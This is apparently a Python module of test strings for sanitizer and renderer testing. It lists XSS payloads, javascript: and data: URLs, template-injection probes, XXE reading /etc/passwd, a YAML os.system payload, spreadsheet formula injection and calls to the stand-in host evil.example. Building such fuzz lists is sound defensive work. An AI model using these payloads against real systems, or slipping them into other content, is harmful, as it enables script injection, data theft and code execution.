"""Texts that try to be more than text, by what they try: our own list, beside the Big List of Naughty
Strings.

One that runs would set `window.__pwned`, open a dialog, or ask the host evil.example; nothing here reaches
a real one. Each line is a text of its own.
"""

from __future__ import annotations

_SCRIPT = r"""
<script>window.__pwned=1</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil.example/x.js></script>
<script src="https://evil.example/x.js"></script>
<script/src=data:,window.__pwned=1></script>
<script type=module>window.__pwned=1</script>
<script type="module" src="data:text/javascript,window.__pwned=1"></script>
<script
>window.__pwned=1</script>
<scr<script>ipt>window.__pwned=1</scr</script>ipt>
"><script>window.__pwned=1</script>
'><script>window.__pwned=1</script>
</title><script>window.__pwned=1</script>
</textarea><script>window.__pwned=1</script>
</style><script>window.__pwned=1</script>
</noscript><script>window.__pwned=1</script>
</template><script>window.__pwned=1</script>
</select><script>window.__pwned=1</script>
--><script>window.__pwned=1</script>
]]><script>window.__pwned=1</script>
<noscript><p title="</noscript><script>window.__pwned=1</script>">
<template><script>window.__pwned=1</script></template>
<xmp><script>window.__pwned=1</script></xmp>
"""
_HANDLERS = r"""
<img src=x onerror=window.__pwned=1>
<img src=x onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<IMG SRC=x OnErRoR=alert(1)>
<img src onerror=alert`1`>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<body onload=window.__pwned=1>
<svg onload=window.__pwned=1>
<svg/onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button popovertarget=x onbeforetoggle=alert(1)>x</button>
<details open ontoggle=window.__pwned=1>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<iframe onload=alert(1)>
<object data=x onerror=alert(1)>
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<a onmouseover=alert(1)>x</a>
<div onpointerenter=alert(1) style="position:fixed;inset:0">x</div>
<p style="animation:x 1s" onanimationstart=alert(1)>x</p>
" onerror=alert(1) x="
" onfocus="alert(1)" autofocus="
' onmouseover='alert(1)
` onclick=alert(1) `
" autofocus onfocus=window.__pwned=1 tabindex=0 "
"onload=alert(1)//
x" style="background:url(//evil.example/a)" y="
"><img src=x onerror=window.__pwned=1>
'"><img src=//evil.example/p.png>
<x contenteditable onblur=alert(1) tabindex=1 autofocus>x
<math href="javascript:alert(1)">x</math>
<isindex type=image src=x onerror=alert(1)>
"""
_ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://evil.example/%0aalert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
java&#x0A;script:alert(1)
 javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>window.__pwned=1</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
blob:https://evil.example/1
file:///etc/passwd
//evil.example/x
\\evil.example\x
https://evil.example/"onmouseover="alert(1)
https://evil.example/'><script>alert(1)</script>
https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E
https://user:pass@evil.example/
https://evil.example\@good.example/
https://xn--80ak6aa92e.com/
<a href=javascript:alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<form action=//evil.example><button>x</button></form>
<form action="javascript:alert(1)"><input type=submit></form>
<button form=x formaction=javascript:alert(1)>x</button>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preconnect href=//evil.example>
<link rel=prefetch href=//evil.example/x>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<embed src=//evil.example/x.swf>
<object data="data:text/html,<script>parent.__pwned=1</script>"></object>
<img src=//evil.example/p.png>
<img srcset="//evil.example/p.png 2x">
<video poster=//evil.example/p.png>
<a ping=//evil.example/ href=x>x</a>
"""
_UNTERMINATED = r"""
<script>
<script>window.__pwned=1
<!--
<!-- <script>
<![CDATA[
<style>
<style>*{display:none}
<title>
<textarea>
<xmp>
<plaintext>
<noscript>
<template>
<svg>
<math>
<table><tr><td>
<select><option>
<img src="x
<a href="
<a href='x
</p></div></article></main></body></html>
</article></div><h1>x</h1>
</span></a></h3>
<
<<<<<<<
</
<!
<?php echo 1 ?>
<%= 7*7 %>
<? system("id") ?>
<b
<div id="main">
<h1 id=main>x</h1>
<form id=oc-find-words name=body>
<img name=getElementById>
<a id=defaultView><a id=defaultView name=x href=x>
"""
_ENTITIES = r"""
&lt;script&gt;window.__pwned=1&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;b&amp;gt;
&quot; onload=&quot;alert(1)
&apos;&apos;
&NotAnEntity;
&
&&&
&#0;
&#xD800;
&#99999999;
&nbsp;x&shy;y&zwj;z
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
"""
_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1) "t")
[x](java&#115;cript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](//evil.example)
[x](https://good.vn "onmouseover=alert(1)")
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)
[x][y]
![x](https://evil.example/p.png)
![x](x"onerror="alert(1))
![x](javascript:alert(1))
[![x](//evil.example/p.png)](javascript:alert(1))
<javascript:alert(1)>
<https://evil.example/"onclick=alert(1)>
<x@evil.example>
`<script>alert(1)</script>`
```html <script>alert(1)</script> ```
~~~
    <script>alert(1)</script>
# heading {onclick=alert(1)}
x {: onclick=alert(1) }
*x*{: .a #main style="color:red" }
| a | b | <script> |
- - - - x
1) 1) 1) x
> > > <script>alert(1)</script>
*a**b***c****d*****
[[[[[[[[x](y)](z)
\<script\>alert(1)\</script\>
*[HTML]: <script>alert(1)</script>
[^1]: <script>alert(1)</script>
!!! danger "<script>alert(1)</script>"
:smile: ==x== ^^x^^ ~~x~~ ++ctrl++
$$\href{javascript:alert(1)}{x}$$
--8<-- "/etc/passwd"
[TOC]
"""
_TEMPLATES = r"""
{{ 7*7 }}
{{ config }}
{{ config.__class__.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ self._TemplateReference__context }}
{{ "<script>window.__pwned=1</script>"|safe }}
{{ page }}
{% raw %}
{% endraw %}
{% include "/etc/passwd" %}
{% for x in (1).__class__ %}x{% endfor %}
{% endblock %}
{% set x = 1 %}
{# note #}
{{
}}
{%
${7*7}
${{ github.token }}
#{7*7}
<%= 7*7 %>
[[${7*7}]]
{n} {name} {0} {} {{}}
%(name)s %s %d %n %x
$name ${name} $1 \1 \g<0>
<card TS0002> <base_url> 0-probe
{"@context": "x"}
::set-output name=x::y
::error file=x::y
"""
_JSON = r"""
</script><script>window.__pwned=1</script>
</ScRiPt ><script>window.__pwned=1</script>
<!--<script>
"},{"@type":"Product","name":"x
\"},\"x\":\"
\
\\
\\"
"-alert(1)-"
';alert(1)//
\';alert(1)//
`${alert(1)}`
"]}</script><img src=x onerror=alert(1)>
__proto__
constructor
{"__proto__":{"polluted":1}}
[object Object]
NaN
null
undefined
=1+1
=HYPERLINK("//evil.example","x")
+1+1
-1+1
@SUM(1)
=cmd|' /C calc'!A0
;=1+1
"""
_SVG = r"""
<svg><script>window.__pwned=1</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><use href="//evil.example/x.svg#x"/></svg>
<svg><image href=//evil.example/p.png></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style>@import "//evil.example/x.css"</style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
</svg><script>window.__pwned=1</script>
</symbol></svg><img src=x onerror=alert(1)>
</text></svg><script>window.__pwned=1</script>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>
<?xml-stylesheet href="//evil.example/x.xsl"?>
<div style="background:url(//evil.example/p.png)">x</div>
<style>@import "//evil.example/x.css";</style>
<p style="width:expression(alert(1))">x</p>
</style><style>*{background:url(//evil.example/p.png)}</style>
"""
_YAML = r"""
!!python/object/apply:os.system ["id"]
!!python/name:os.system
!!python/object/new:type [x]
!!binary PHNjcmlwdD4=
!<tag:evil.example,2026:x> y
&a [*a, *a]
*a
<<: *a
? x : y
--- x
... x
%YAML 9.9
%TAG ! tag:evil.example,2026:
- a
a: b
key: |
"unclosed
'unclosed
[unclosed
{unclosed
# no comment
@reserved
`reserved
!!omap [x: y]
!!set {x}
yes
~
0x1F
1e999
12:30:45
2026-02-30
"""
# Characters that change how text looks, compares or ends; written as escapes, so that they can be seen here.
_CHARACTERS = [
    "\u202eexe.gnp\u202c.jpg",
    "\u202d123\u202c",
    "\u2066x\u2069",
    "\u200fאבג\u200e",
    "مرحبا abc",
    "mật\u200bong",
    "mật\u200d\u200cong",
    "\ufeffmật ong",
    "mật\u00adong",
    "\u2060x\u2061\u2062",
    "a\u0300\u0301\u0302\u0303\u0304" * 20,
    "e\u0323\u0302",
    "\u00a0\u2007\u202fx\u3000",
    "x\u2028y",
    "x\u2029y",
    "x\u0085y",
    "x\ty",
    "x\vy\fz",
    "x\x00y",
    "x\x1b[31my",
    "x\x7fy",
    "\ufffdx",
    "\ufffex",
    "\U000e0041\U000e0042x",
    "\ue000title\ue001",
    "👩‍👩‍👧‍👦🏳️‍🌈🇻🇳",
    "Ｊａｖａｓｃｒｉｐｔ",
    "раураl",
    "İıſK",
    "ß ẞ ﬁ Ⅷ ½ ①",
    "𝒳𝓈𝓈 𝟙𝟚𝟛",
    "\u202e<script>window.__pwned=1</script>",
    "﷽",
    "\u1680x\u180ey",
    "x" * 3000,
    "<b>" * 400,
]

BY_AIM: dict[str, list[str]] = {
    aim: [line for line in lines.strip("\n").split("\n") if line.strip()]
    for aim, lines in {
        "script": _SCRIPT,
        "handlers": _HANDLERS,
        "addresses": _ADDRESSES,
        "unterminated": _UNTERMINATED,
        "entities": _ENTITIES,
        "markdown": _MARKDOWN,
        "templates": _TEMPLATES,
        "json": _JSON,
        "svg": _SVG,
        "yaml": _YAML,
    }.items()
} | {"characters": _CHARACTERS}

VECTORS: list[str] = [text for texts in BY_AIM.values() for text in texts]
